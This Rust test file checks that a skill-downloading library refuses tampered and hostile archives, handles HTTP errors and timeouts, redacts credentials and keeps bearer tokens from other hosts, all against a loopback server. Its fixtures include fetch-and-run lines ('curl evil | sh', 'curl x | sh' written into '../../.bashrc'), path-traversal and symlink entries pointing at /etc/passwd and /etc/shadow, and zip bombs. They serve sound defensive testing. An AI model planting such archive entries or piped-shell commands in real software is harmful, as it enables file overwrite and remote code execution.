//! Skills from HTTP sources against a loopback static server: a discovery index with `skill-md`,
//! `.tar.gz` and `.zip` entries, digests checked, a bad entry refused by name while the others
//! come in, hostile archives refused naming the entry, timeouts and HTTP statuses as messages,
//! and one archive or `SKILL.md` URL fetched directly. Nothing here reaches the internet.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use skilldeck_skill::UploadLimits;
use skilldeck_skill::relpath::PathError;
use skilldeck_sources::archive::{
    ArchiveError, ArchiveKind, FetchError, Hostility, extract, extract_file, fetch_archive, fetch_skill_md,
};
use skilldeck_sources::http::{BodySize, HttpClient, HttpError, HttpOptions, Sha256Digest, TimeoutStage, USER_AGENT};
use skilldeck_sources::testing_http::{Route, StaticServer};
use skilldeck_sources::wellknown::{
    EntryKind, EntryRefusal, Refused, SCHEMA_0_2_0, Wanted, WellKnownError, fetch_entries, fetch_index, list_index,
};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::Duration;
use url::Url;

// ---- archives built byte by byte, hostile ones included -------------------------------------

/// One tar entry; names are written raw into the header, so nothing sanitizes them.
enum Tar<'a> {
    File(&'a [u8]),
    Dir,
    Symlink(&'a str),
    HardLink(&'a str),
    Fifo,
    CharDevice,
}

fn tar_gz(entries: &[(&str, Tar<'_>)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (name, entry) in entries {
        let mut header = tar::Header::new_gnu();
        let (kind, data, link): (tar::EntryType, &[u8], &str) = match entry {
            Tar::File(data) => (tar::EntryType::Regular, data, ""),
            Tar::Dir => (tar::EntryType::Directory, b"", ""),
            Tar::Symlink(to) => (tar::EntryType::Symlink, b"", to),
            Tar::HardLink(to) => (tar::EntryType::Link, b"", to),
            Tar::Fifo => (tar::EntryType::Fifo, b"", ""),
            Tar::CharDevice => (tar::EntryType::Char, b"", ""),
        };
        let old = header.as_old_mut();
        old.name.fill(0);
        old.name[..name.len()].copy_from_slice(name.as_bytes());
        old.linkname.fill(0);
        old.linkname[..link.len()].copy_from_slice(link.as_bytes());
        header.set_entry_type(kind);
        header.set_size(data.len() as u64);
        header.set_mode(if matches!(entry, Tar::Dir) { 0o755 } else { 0o644 });
        header.set_cksum();
        builder.append(&header, data).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

enum Zip<'a> {
    File(&'a [u8]),
    Dir,
    Symlink(&'a str),
}

fn zip(entries: &[(&str, Zip<'_>)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, entry) in entries {
        match entry {
            Zip::File(data) => {
                writer.start_file(*name, options).unwrap();
                writer.write_all(data).unwrap();
            }
            Zip::Dir => writer.add_directory(*name, options).unwrap(),
            Zip::Symlink(to) => writer.add_symlink(*name, *to, options).unwrap(),
        }
    }
    writer.finish().unwrap().into_inner()
}

fn skill_md(name: &str) -> Vec<u8> {
    format!("---\nname: {name}\ndescription: The {name} skill.\n---\n\n# {name}\n").into_bytes()
}

fn digest(bytes: &[u8]) -> String {
    Sha256Digest::of(bytes).to_string()
}

// ---- a site: files under a folder, served on 127.0.0.1 --------------------------------------

struct Site {
    root: tempfile::TempDir,
    server: StaticServer,
    scratch: tempfile::TempDir,
}

impl Site {
    fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        let server = StaticServer::start(root.path()).unwrap();
        Self { root, server, scratch: tempfile::tempdir().unwrap() }
    }

    fn put(&self, path: &str, bytes: &[u8]) {
        let at = self.root.path().join(path);
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::fs::write(at, bytes).unwrap();
    }

    /// Writes an index at `at` listing `(name, type, url, digest)`; returns its bytes.
    fn index(&self, at: &str, entries: &[(&str, &str, &str, String)]) -> Vec<u8> {
        let skills: Vec<_> = entries
            .iter()
            .map(|(name, kind, url, digest)| {
                serde_json::json!({"name": name, "type": kind, "description": format!("The {name} skill."),
                    "url": url, "digest": digest})
            })
            .collect();
        let bytes = serde_json::to_vec_pretty(&serde_json::json!({"$schema": SCHEMA_0_2_0, "skills": skills})).unwrap();
        self.put(at, &bytes);
        bytes
    }

    fn dir(&self) -> PathBuf {
        self.scratch.path().join("fetched")
    }

    fn paths_asked(&self) -> Vec<String> {
        self.server.requests().into_iter().map(|r| r.path).collect()
    }
}

fn client() -> HttpClient {
    HttpClient::new(HttpOptions {
        connect_timeout: Duration::from_secs(2),
        read_timeout: Duration::from_millis(300),
        total_timeout: Duration::from_secs(20),
        ..HttpOptions::default()
    })
    .unwrap()
}

/// Every file under `dir`, relative, sorted, with its text.
fn tree(dir: &Path) -> Vec<(String, String)> {
    fn walk(root: &Path, dir: &Path, out: &mut Vec<(String, String)>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(root, &path, out);
            } else {
                let rel = path.strip_prefix(root).unwrap().to_string_lossy().replace('\\', "/");
                out.push((rel, String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned()));
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

fn owned(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect()
}

/// The three skills of a site: `alpha` as `SKILL.md`, `beta` as a `.tar.gz` with its files at
/// the root, `gamma` as a `.zip` wrapped in one top folder. Returns the index's bytes.
fn three_skills(site: &Site, index_at: &str, urls: [&str; 3]) -> Vec<u8> {
    let alpha = skill_md("alpha");
    let beta = tar_gz(&[
        ("./", Tar::Dir),
        ("./SKILL.md", Tar::File(&skill_md("beta"))),
        ("./scripts/", Tar::Dir),
        ("./scripts/run.sh", Tar::File(b"echo beta\n")),
    ]);
    let gamma = zip(&[
        ("gamma/", Zip::Dir),
        ("gamma/SKILL.md", Zip::File(&skill_md("gamma"))),
        ("gamma/references/notes.md", Zip::File(b"notes\n")),
        ("__MACOSX/gamma/._SKILL.md", Zip::File(b"litter")),
    ]);
    let dir = Path::new(index_at).parent().unwrap().to_str().unwrap().to_owned();
    let at = |url: &str| {
        let path = if let Some(abs) = url.strip_prefix('/') { abs.to_owned() } else { format!("{dir}/{url}") };
        path.trim_start_matches('/').to_owned()
    };
    site.put(&at(urls[0]), &alpha);
    site.put(&at(urls[1]), &beta);
    site.put(&at(urls[2]), &gamma);
    site.index(
        index_at,
        &[
            ("alpha", "skill-md", urls[0], digest(&alpha)),
            ("beta", "archive", urls[1], digest(&beta)),
            ("gamma", "archive", urls[2], digest(&gamma)),
        ],
    )
}

const INDEX: &str = ".well-known/agent-skills/index.json";

// ---- the discovery index ---------------------------------------------------------------------

#[test]
fn an_index_brings_in_skill_md_tar_gz_and_zip_entries_with_digests_checked() {
    let site = Site::new();
    let index = three_skills(&site, INDEX, ["alpha/SKILL.md", "beta.tar.gz", "gamma.zip"]);
    let got = fetch_index(&client(), &site.server.base(), &Wanted::All, &site.dir(), UploadLimits::default()).unwrap();

    assert_eq!(got.index_url.as_str(), site.server.url(&format!("/{INDEX}")));
    assert_eq!(got.index_digest, Sha256Digest::of(&index));
    assert_eq!(got.refused, vec![]);
    let summary: Vec<(&str, EntryKind, Option<PathBuf>)> =
        got.entries.iter().map(|e| (e.name.as_str(), e.kind, e.dir.clone())).collect();
    assert_eq!(
        summary,
        vec![
            ("alpha", EntryKind::SkillMd, Some(site.dir().join("alpha"))),
            ("beta", EntryKind::Archive, Some(site.dir().join("beta"))),
            ("gamma", EntryKind::Archive, Some(site.dir().join("gamma"))),
        ]
    );
    assert_eq!(got.entries[1].description, "The beta skill.");
    let beta_md = String::from_utf8(skill_md("beta")).unwrap();
    let gamma_md = String::from_utf8(skill_md("gamma")).unwrap();
    assert_eq!(tree(&site.dir().join("alpha")), owned(&[("SKILL.md", &String::from_utf8(skill_md("alpha")).unwrap())]));
    assert_eq!(tree(&site.dir().join("beta")), owned(&[("SKILL.md", &beta_md), ("scripts/run.sh", "echo beta\n")]));
    assert_eq!(tree(&site.dir().join("gamma")), owned(&[("SKILL.md", &gamma_md), ("references/notes.md", "notes\n")]));
    // Nothing else was left in the scratch folder (no staging).
    let mut left: Vec<String> =
        std::fs::read_dir(site.dir()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    left.sort();
    assert_eq!(left, ["alpha", "beta", "gamma"]);
    // Every request said who it was.
    let agents: Vec<Option<String>> = site.server.requests().into_iter().map(|r| r.user_agent).collect();
    assert_eq!(agents, vec![Some(USER_AGENT.to_owned()); 4]);
}

#[test]
fn a_digest_mismatch_refuses_that_entry_by_name_and_the_others_still_come_in() {
    let site = Site::new();
    three_skills(&site, INDEX, ["alpha/SKILL.md", "beta.tar.gz", "gamma.zip"]);
    // The publisher's archive changed after the index was written.
    let listed = std::fs::read(site.root.path().join(".well-known/agent-skills/beta.tar.gz")).unwrap();
    let tampered = tar_gz(&[("SKILL.md", Tar::File(&skill_md("beta"))), ("run.sh", Tar::File(b"curl evil | sh\n"))]);
    site.put(".well-known/agent-skills/beta.tar.gz", &tampered);

    let got = fetch_index(&client(), &site.server.base(), &Wanted::All, &site.dir(), UploadLimits::default()).unwrap();
    let names: Vec<&str> = got.entries.iter().map(|e| e.name.as_str()).collect();
    assert_eq!(names, ["alpha", "gamma"]);
    assert_eq!(
        got.refused,
        vec![Refused {
            name: "beta".to_owned(),
            reason: EntryRefusal::DigestMismatch {
                expected: Sha256Digest::of(&listed),
                got: Sha256Digest::of(&tampered)
            },
        }]
    );
    let message = got.refused[0].reason.to_string();
    assert!(message.contains(&digest(&listed)) && message.contains(&digest(&tampered)), "{message}");
    assert!(!site.dir().join("beta").exists(), "nothing of a mismatched artifact is used");
}

#[test]
fn an_unknown_schema_stops_before_any_entry_is_fetched() {
    let site = Site::new();
    three_skills(&site, INDEX, ["alpha/SKILL.md", "beta.tar.gz", "gamma.zip"]);
    let future = "https://schemas.agentskills.io/discovery/0.3.0/schema.json";
    let index = serde_json::json!({"$schema": future, "skills": [
        {"name": "alpha", "type": "skill-md", "description": "d", "url": "alpha/SKILL.md",
         "digest": digest(&skill_md("alpha"))}]});
    site.put(INDEX, index.to_string().as_bytes());

    let got = fetch_index(&client(), &site.server.base(), &Wanted::All, &site.dir(), UploadLimits::default());
    let expected = WellKnownError::UnknownSchema {
        url: site.server.url(&format!("/{INDEX}")),
        found: Some(future.to_owned()),
        known: SCHEMA_0_2_0.to_owned(),
    };
    assert_eq!(got, Err(expected.clone()));
    assert!(expected.to_string().contains("stops here"), "{expected}");
    assert_eq!(site.paths_asked(), [format!("/{INDEX}")]);
    assert!(!site.dir().exists());
}

#[test]
fn relative_path_absolute_and_absolute_entry_urls_resolve_against_the_index_url() {
    let site = Site::new();
    let index_at = format!("team/{INDEX}");
    let elsewhere = site.server.url("/cdn/gamma.zip");
    three_skills(
        &site,
        &index_at,
        ["alpha/SKILL.md", "/files/beta.tar.gz", &elsewhere.replace(&site.server.base(), "")],
    );
    // The index names gamma by its absolute URL.
    let bytes = std::fs::read(site.root.path().join(&index_at)).unwrap();
    let text = String::from_utf8(bytes).unwrap().replace("\"/cdn/gamma.zip\"", &format!("{elsewhere:?}"));
    site.put(&index_at, text.as_bytes());

    let got =
        fetch_index(&client(), &site.server.url("/team"), &Wanted::All, &site.dir(), UploadLimits::default()).unwrap();
    assert_eq!(got.refused, vec![]);
    let urls: Vec<String> = got.entries.iter().map(|e| e.url.to_string()).collect();
    assert_eq!(
        urls,
        [
            site.server.url("/team/.well-known/agent-skills/alpha/SKILL.md"),
            site.server.url("/files/beta.tar.gz"),
            elsewhere.clone(),
        ]
    );
    assert!(got.entries.iter().all(|e| e.dir.as_ref().is_some_and(|d| d.join("SKILL.md").is_file())));
}

#[test]
fn a_listing_fetches_no_skill_and_only_chosen_names_are_fetched_after() {
    let site = Site::new();
    three_skills(&site, INDEX, ["alpha/SKILL.md", "beta.tar.gz", "gamma.zip"]);
    let client = client();
    let listing = list_index(&client, &site.server.url("/.well-known/agent-skills/index.json")).unwrap();
    let listed: Vec<(&str, Option<&PathBuf>)> =
        listing.entries.iter().map(|e| (e.name.as_str(), e.dir.as_ref())).collect();
    assert_eq!(listed, [("alpha", None), ("beta", None), ("gamma", None)]);
    assert_eq!(site.paths_asked(), [format!("/{INDEX}")]);

    let wanted = Wanted::Names(vec!["gamma".to_owned(), "nope".to_owned()]);
    let got = fetch_entries(&client, &listing, &wanted, &site.dir(), UploadLimits::default()).unwrap();
    assert_eq!(got.entries.iter().map(|e| e.name.as_str()).collect::<Vec<_>>(), ["gamma"]);
    assert_eq!(got.refused, vec![Refused { name: "nope".to_owned(), reason: EntryRefusal::NotInIndex }]);
    assert_eq!(got.index_digest, listing.index_digest);
    assert_eq!(site.paths_asked(), [format!("/{INDEX}"), "/.well-known/agent-skills/gamma.zip".to_owned()]);
}

#[test]
fn a_hostile_or_skill_less_archive_in_an_index_is_refused_by_name_and_the_others_come_in() {
    let site = Site::new();
    let alpha = skill_md("alpha");
    let evil = tar_gz(&[("SKILL.md", Tar::File(&skill_md("evil"))), ("../../.bashrc", Tar::File(b"curl x | sh\n"))]);
    let empty = zip(&[("README.md", Zip::File(b"no skill here"))]);
    site.put(".well-known/agent-skills/alpha/SKILL.md", &alpha);
    site.put(".well-known/agent-skills/evil.tgz", &evil);
    site.put(".well-known/agent-skills/empty.zip", &empty);
    site.index(
        INDEX,
        &[
            ("alpha", "skill-md", "alpha/SKILL.md", digest(&alpha)),
            ("evil", "archive", "evil.tgz", digest(&evil)),
            ("empty", "archive", "empty.zip", digest(&empty)),
        ],
    );
    let got = fetch_index(&client(), &site.server.base(), &Wanted::All, &site.dir(), UploadLimits::default()).unwrap();
    assert_eq!(got.entries.iter().map(|e| e.name.as_str()).collect::<Vec<_>>(), ["alpha"]);
    assert_eq!(
        got.refused,
        vec![
            Refused {
                name: "evil".to_owned(),
                reason: EntryRefusal::Archive(ArchiveError::Hostile {
                    entry: "../../.bashrc".to_owned(),
                    reason: Hostility::Name(PathError::ParentDir),
                }),
            },
            Refused { name: "empty".to_owned(), reason: EntryRefusal::NoSkillMd },
        ]
    );
    assert!(!site.dir().join("evil").exists() && !site.dir().join("empty").exists());
    assert!(!site.scratch.path().join(".bashrc").exists());
}

// ---- hostile archives ------------------------------------------------------------------------

/// Unpacks `bytes` and expects `expected`; nothing may be left beside the destination.
fn check(bytes: &[u8], kind: ArchiveKind, limits: UploadLimits, expected: ArchiveError) {
    let scratch = tempfile::tempdir().unwrap();
    let dest = scratch.path().join("skill");
    assert_eq!(extract(bytes, kind, &dest, limits), Err(expected));
    assert_eq!(std::fs::read_dir(scratch.path()).unwrap().count(), 0, "nothing is left behind");
}

fn hostile(entry: &str, reason: Hostility) -> ArchiveError {
    ArchiveError::Hostile { entry: entry.to_owned(), reason }
}

#[test]
fn hostile_tar_entries_refuse_the_whole_archive_naming_the_entry() {
    let md = skill_md("x");
    let cases: Vec<(&str, Tar<'_>, Hostility)> = vec![
        ("/etc/cron.d/evil", Tar::File(b"x"), Hostility::Name(PathError::Absolute)),
        ("../evil", Tar::File(b"x"), Hostility::Name(PathError::ParentDir)),
        ("scripts/../../evil", Tar::File(b"x"), Hostility::Name(PathError::ParentDir)),
        ("scripts\\..\\evil", Tar::File(b"x"), Hostility::Name(PathError::Backslash)),
        ("C:/Windows/evil", Tar::File(b"x"), Hostility::Name(PathError::DrivePrefix)),
        ("bad\u{7}name", Tar::File(b"x"), Hostility::Name(PathError::ControlChar)),
        ("link", Tar::Symlink("../../etc/passwd"), Hostility::Symlink { target: "../../etc/passwd".to_owned() }),
        ("inside", Tar::Symlink("SKILL.md"), Hostility::Symlink { target: "SKILL.md".to_owned() }),
        ("hard", Tar::HardLink("SKILL.md"), Hostility::HardLink { target: "SKILL.md".to_owned() }),
        ("hard-out", Tar::HardLink("/etc/shadow"), Hostility::HardLink { target: "/etc/shadow".to_owned() }),
        ("pipe", Tar::Fifo, Hostility::Special { kind: "FIFO" }),
        ("tty", Tar::CharDevice, Hostility::Special { kind: "character device" }),
        ("skill.md", Tar::File(b"x"), Hostility::Duplicate { other: "SKILL.md".to_owned() }),
        ("SKILL.md/inner", Tar::File(b"x"), Hostility::FileAsFolder { file: "SKILL.md".to_owned() }),
    ];
    for (name, entry, reason) in cases {
        // A good file first, so something was already unpacked when the hostile entry comes.
        let bytes = tar_gz(&[("SKILL.md", Tar::File(&md)), (name, entry)]);
        check(&bytes, ArchiveKind::TarGz, UploadLimits::default(), hostile(name, reason));
    }
}

#[test]
fn hostile_zip_entries_refuse_the_whole_archive_naming_the_entry() {
    let md = skill_md("x");
    let cases: Vec<(&str, Zip<'_>, Hostility)> = vec![
        ("/etc/evil", Zip::File(b"x"), Hostility::Name(PathError::Absolute)),
        ("../evil", Zip::File(b"x"), Hostility::Name(PathError::ParentDir)),
        ("a\\..\\..\\evil", Zip::File(b"x"), Hostility::Name(PathError::Backslash)),
        ("C:/evil", Zip::File(b"x"), Hostility::Name(PathError::DrivePrefix)),
        ("bad\u{1b}[2Jname", Zip::File(b"x"), Hostility::Name(PathError::ControlChar)),
        ("link", Zip::Symlink("/etc/passwd"), Hostility::Symlink { target: "/etc/passwd".to_owned() }),
    ];
    for (name, entry, reason) in cases {
        let bytes = zip(&[("SKILL.md", Zip::File(&md)), (name, entry)]);
        check(&bytes, ArchiveKind::Zip, UploadLimits::default(), hostile(name, reason));
    }
}

#[test]
fn bombs_stop_at_the_limits_counting_inflated_bytes() {
    let limits = UploadLimits { max_file_bytes: 1 << 20, max_total_bytes: 3 << 20, max_files: 10 };
    let zeros = vec![0u8; 8 << 20];
    let chunk = vec![0u8; 900 << 10];
    // One file inflating past the per-file limit: 8 MiB of zeros is a few KiB compressed.
    let tar_bomb = tar_gz(&[("SKILL.md", Tar::File(b"x")), ("blob.bin", Tar::File(&zeros))]);
    assert!(tar_bomb.len() < 100 << 10, "a hundred times smaller than it inflates: {}", tar_bomb.len());
    let got = extract(&tar_bomb, ArchiveKind::TarGz, &tempfile::tempdir().unwrap().path().join("s"), limits);
    let Err(ArchiveError::FileTooLarge { entry, at_least, limit }) = got else { panic!("{got:?}") };
    assert_eq!((entry.as_str(), limit), ("blob.bin", 1 << 20));
    assert!(at_least > limit && at_least <= limit + (64 << 10), "stopped soon after the limit: {at_least}");

    let zip_bomb = zip(&[("SKILL.md", Zip::File(b"x")), ("blob.bin", Zip::File(&zeros))]);
    let got = extract(&zip_bomb, ArchiveKind::Zip, &tempfile::tempdir().unwrap().path().join("s"), limits);
    assert!(matches!(got, Err(ArchiveError::FileTooLarge { ref entry, .. }) if entry == "blob.bin"), "{got:?}");

    // Files each under the limit, together past the total.
    let names: Vec<String> = (0..5).map(|i| format!("part{i}.bin")).collect();
    let parts: Vec<(&str, Tar<'_>)> = names.iter().map(|n| (n.as_str(), Tar::File(&chunk))).collect();
    let got = extract(&tar_gz(&parts), ArchiveKind::TarGz, &tempfile::tempdir().unwrap().path().join("s"), limits);
    let Err(ArchiveError::TotalTooLarge { entry, at_least, limit }) = got else { panic!("{got:?}") };
    assert_eq!((entry.as_str(), limit), ("part3.bin", 3 << 20));
    assert!(at_least > limit, "{at_least}");

    // More files than the limit.
    let names: Vec<String> = (0..11).map(|i| format!("f{i}.txt")).collect();
    let many: Vec<(&str, Zip<'_>)> = names.iter().map(|n| (n.as_str(), Zip::File(b"x"))).collect();
    check(&zip(&many), ArchiveKind::Zip, limits, ArchiveError::TooManyEntries { limit: 10 });

    // The messages say how big.
    let message =
        ArchiveError::FileTooLarge { entry: "blob.bin".to_owned(), at_least: 1_114_112, limit: 1 << 20 }.to_string();
    assert!(message.contains("blob.bin") && message.contains("at least 1114112 bytes"), "{message}");
}

#[test]
fn an_archive_file_on_disk_is_told_by_its_bytes_and_unpacked_stripping_one_wrapping_folder() {
    let scratch = tempfile::tempdir().unwrap();
    let file = scratch.path().join("pdf.skill");
    std::fs::write(&file, zip(&[("pdf/SKILL.md", Zip::File(&skill_md("pdf"))), ("pdf/a.txt", Zip::File(b"a"))]))
        .unwrap();
    let got = extract_file(&file, &scratch.path().join("out"), UploadLimits::default()).unwrap();
    assert_eq!(got.stripped_root.as_deref(), Some("pdf"));
    assert!(got.has_skill_md);
    assert_eq!((got.files, got.skipped.len()), (2, 0));
    assert_eq!(tree(&got.dir).into_iter().map(|(p, _)| p).collect::<Vec<_>>(), ["SKILL.md", "a.txt"]);
    // Unpacking never writes over a folder that exists.
    let again = extract_file(&file, &got.dir, UploadLimits::default());
    assert_eq!(again, Err(ArchiveError::DestinationExists { path: got.dir.clone() }));
}

// ---- HTTP: statuses, timeouts, caps, credentials --------------------------------------------

#[test]
fn a_stalled_server_times_out_with_a_message() {
    let site = Site::new();
    site.server.route(&format!("/{INDEX}"), Route::Stall);
    let got = list_index(&client(), &site.server.base());
    let expected = HttpError::TimedOut {
        url: site.server.url(&format!("/{INDEX}")),
        stage: TimeoutStage::Stalled,
        after: Duration::from_millis(300),
    };
    assert_eq!(got, Err(WellKnownError::Http(expected.clone())));
    assert!(expected.to_string().contains("stopped answering (nothing came for 0.3 s)"), "{expected}");

    // A body that stops halfway is given up the same way, for that entry only.
    let big = vec![7u8; 200 << 10];
    site.put("files/big.zip", &big);
    site.server.route("/files/big.zip", Route::StallBody { sent: 1000 });
    let got = fetch_archive(
        &client(),
        &Url::parse(&site.server.url("/files/big.zip")).unwrap(),
        &site.dir(),
        UploadLimits::default(),
    );
    assert!(matches!(got, Err(FetchError::Http(HttpError::TimedOut { stage: TimeoutStage::Stalled, .. }))), "{got:?}");
}

#[test]
fn a_body_that_trickles_past_the_total_time_is_given_up_as_too_slow_in_all() {
    let site = Site::new();
    site.put("slow.zip", &vec![7u8; 100_000]);
    site.server.route("/slow.zip", Route::StallBody { sent: 10 });
    let client = HttpClient::new(HttpOptions {
        read_timeout: Duration::from_millis(400),
        total_timeout: Duration::from_millis(100),
        ..HttpOptions::default()
    })
    .unwrap();
    let url = Url::parse(&site.server.url("/slow.zip")).unwrap();
    let expected =
        HttpError::TimedOut { url: url.to_string(), stage: TimeoutStage::Total, after: Duration::from_millis(100) };
    assert_eq!(client.get(&url), Err(expected.clone()));
    assert!(expected.to_string().contains("took longer than 0.1 s in all"), "{expected}");
}

#[test]
fn not_found_and_credentials_are_said_plainly_without_credentials_in_the_message() {
    let site = Site::new();
    site.server.route("/private/SKILL.md", Route::Status(401));
    site.server.route("/forbidden/SKILL.md", Route::Status(403));
    site.server.route("/broken/SKILL.md", Route::Status(500));
    let client = client();
    let fetch = |path: &str| {
        let url = Url::parse(&site.server.url(path)).unwrap();
        fetch_skill_md(&client, &url, &site.dir(), UploadLimits::default()).unwrap_err()
    };
    let base = site.server.base();
    assert_eq!(
        fetch("/missing/SKILL.md").to_string(),
        format!(
            "{base}/missing/SKILL.md was not found (HTTP 404); check the address, or ask the publisher where it moved"
        )
    );
    assert_eq!(
        fetch("/private/SKILL.md").to_string(),
        format!(
            "{base}/private/SKILL.md needs credentials (HTTP 401); Skilldeck sends none, so ask the publisher for a \
             public address"
        )
    );
    assert_eq!(
        fetch("/forbidden/SKILL.md"),
        FetchError::Http(HttpError::NeedsCredentials { url: format!("{base}/forbidden/SKILL.md"), status: 403 })
    );
    assert_eq!(
        fetch("/broken/SKILL.md"),
        FetchError::Http(HttpError::Status { url: format!("{base}/broken/SKILL.md"), status: 500 })
    );

    // User, password and query (a signed link's token) never reach a message.
    let secret = format!("http://someone:hunter2@{}/missing/index.json?sig=s3cr3t", base.trim_start_matches("http://"));
    let message = list_index(&client, &secret).unwrap_err().to_string();
    assert!(!message.contains("hunter2") && !message.contains("someone") && !message.contains("s3cr3t"), "{message}");
    assert!(message.contains(&format!("{base}/missing/index.json?…")), "{message}");
}

#[test]
fn unreachable_too_big_redirects_and_plain_http_are_refused_with_reasons() {
    let site = Site::new();
    let client = client();
    // Nothing listens on a port just freed.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let url = Url::parse(&format!("http://127.0.0.1:{port}/SKILL.md")).unwrap();
    assert!(matches!(client.get(&url), Err(HttpError::Unreachable { .. })), "{:?}", client.get(&url));

    site.put("big.bin", &vec![1u8; 10_000]);
    let url = Url::parse(&site.server.url("/big.bin")).unwrap();
    assert_eq!(
        client.get_capped(&url, 4096),
        Err(HttpError::TooBig { url: url.to_string(), limit: 4096, size: BodySize::Announced(10_000) })
    );
    assert_eq!(client.get_capped(&url, 10_000).unwrap().bytes.len(), 10_000);

    site.server.route("/old", Route::Redirect("/big.bin".to_owned()));
    let fetched = client.get(&Url::parse(&site.server.url("/old")).unwrap()).unwrap();
    assert_eq!(fetched.url, url);
    site.server.route("/loop", Route::Redirect("/loop".to_owned()));
    let got = client.get(&Url::parse(&site.server.url("/loop")).unwrap());
    assert!(
        matches!(&got, Err(HttpError::Redirect { reason, .. }) if reason.contains("more than 5 redirects")),
        "{got:?}"
    );

    let far = Url::parse("http://example.invalid/SKILL.md").unwrap();
    assert!(matches!(client.get(&far), Err(HttpError::Refused { .. })));
}

/// A bearer token goes to the host asked and nowhere else, after every redirect: not to another
/// port or host a redirect leads to, nor back on a later hop.
#[test]
fn a_bearer_token_stays_with_the_host_asked_across_redirects() {
    let home = Site::new();
    let other = Site::new();
    home.put("final.md", b"# done\n");
    home.server.route("/start", Route::Redirect(other.server.url("/hop")));
    other.server.route("/hop", Route::Redirect(home.server.url("/final.md")));
    home.server.route("/same-host", Route::Redirect("/final.md".to_owned()));
    let client = HttpClient::new(HttpOptions {
        bearer_token: skilldeck_sources::http::BearerToken::new("tok-0123456789"),
        ..HttpOptions::default()
    })
    .unwrap();
    let fetched = client.get(&Url::parse(&home.server.url("/start")).unwrap()).unwrap();
    assert_eq!(fetched.bytes, b"# done\n");
    let auth = |site: &Site, path: &str| {
        site.server.requests().into_iter().filter(|r| r.path == path).map(|r| r.authorization).collect::<Vec<_>>()
    };
    assert_eq!(auth(&home, "/start"), [Some("Bearer tok-0123456789".to_owned())], "the host asked gets it");
    assert_eq!(auth(&other, "/hop"), [None], "another host (port) never does");
    assert_eq!(auth(&home, "/final.md"), [None], "nor a later hop, once it has left");
    // Within the host asked, a redirect keeps it.
    client.get(&Url::parse(&home.server.url("/same-host")).unwrap()).unwrap();
    let finals = auth(&home, "/final.md");
    assert_eq!(finals.last(), Some(&Some("Bearer tok-0123456789".to_owned())), "{finals:?}");
}

// ---- one URL -----------------------------------------------------------------------------------

#[test]
fn a_direct_archive_url_is_fetched_unpacked_and_digested() {
    let site = Site::new();
    let bytes = tar_gz(&[
        ("pdf/", Tar::Dir),
        ("pdf/SKILL.md", Tar::File(&skill_md("pdf"))),
        ("pdf/scripts/x.py", Tar::File(b"print(1)\n")),
    ]);
    site.put("downloads/pdf-1.0.tgz", &bytes);
    // A generic type: the bytes tell the kind.
    site.server.route("/downloads/pdf-1.0.tgz", Route::ContentType("application/octet-stream".to_owned()));
    let url = Url::parse(&site.server.url("/downloads/pdf-1.0.tgz")).unwrap();
    let dest = site.dir().join("pdf");
    let got = fetch_archive(&client(), &url, &dest, UploadLimits::default()).unwrap();
    assert_eq!(
        (got.dir.clone(), got.digest.clone(), got.kind, got.url.clone()),
        (dest.clone(), Sha256Digest::of(&bytes), ArchiveKind::TarGz, url)
    );
    assert_eq!(got.unpacked.stripped_root.as_deref(), Some("pdf"));
    assert_eq!(tree(&dest).into_iter().map(|(p, _)| p).collect::<Vec<_>>(), ["SKILL.md", "scripts/x.py"]);

    site.put("downloads/notes.txt", b"just text");
    let url = Url::parse(&site.server.url("/downloads/notes.txt")).unwrap();
    let got = fetch_archive(&client(), &url, &site.dir().join("notes"), UploadLimits::default());
    assert_eq!(got.unwrap_err(), FetchError::Archive(ArchiveError::UnknownKind { name: url.to_string() }));
}

#[test]
fn a_direct_skill_md_url_lands_in_a_folder_named_by_its_frontmatter_or_its_url() {
    let site = Site::new();
    let named = skill_md("pdf-tools");
    site.put("skills/pdf/SKILL.md", &named);
    site.put("skills/docx/SKILL.md", b"# No frontmatter\n");
    let client = client();
    let url = Url::parse(&site.server.url("/skills/pdf/SKILL.md")).unwrap();
    let got = fetch_skill_md(&client, &url, &site.dir(), UploadLimits::default()).unwrap();
    assert_eq!(
        (got.name.as_str(), got.dir.clone(), got.digest.clone()),
        ("pdf-tools", site.dir().join("pdf-tools"), Sha256Digest::of(&named))
    );
    assert_eq!(std::fs::read(site.dir().join("pdf-tools/SKILL.md")).unwrap(), named);

    let url = Url::parse(&site.server.url("/skills/docx/SKILL.md")).unwrap();
    let got = fetch_skill_md(&client, &url, &site.dir(), UploadLimits::default()).unwrap();
    assert_eq!(got.name.as_str(), "docx");
    assert_eq!(tree(&got.dir), owned(&[("SKILL.md", "# No frontmatter\n")]));
}

#[test]
fn a_large_body_streams_into_a_sink_with_progress_and_a_sink_that_fails_says_so() {
    let site = Site::new();
    let client = client();
    let body: Vec<u8> = (0..300_000u32).map(|i| (i % 251) as u8).collect();
    site.put("weights.bin", &body);
    let url = Url::parse(&site.server.url("/weights.bin")).unwrap();
    let mut sink = Vec::new();
    let mut seen: Vec<(u64, Option<u64>)> = Vec::new();
    let streamed = client.get_into(&url, 1 << 20, &mut sink, &mut |read, total| seen.push((read, total))).unwrap();
    assert_eq!(streamed.len, body.len() as u64);
    assert_eq!(sink, body);
    assert!(seen.len() > 1, "progress came once per read: {seen:?}");
    assert!(seen.windows(2).all(|w| w[0].0 < w[1].0), "{seen:?}");
    assert_eq!(seen.last(), Some(&(body.len() as u64, Some(body.len() as u64))));

    // A cap below the size is refused before anything is written.
    let mut sink = Vec::new();
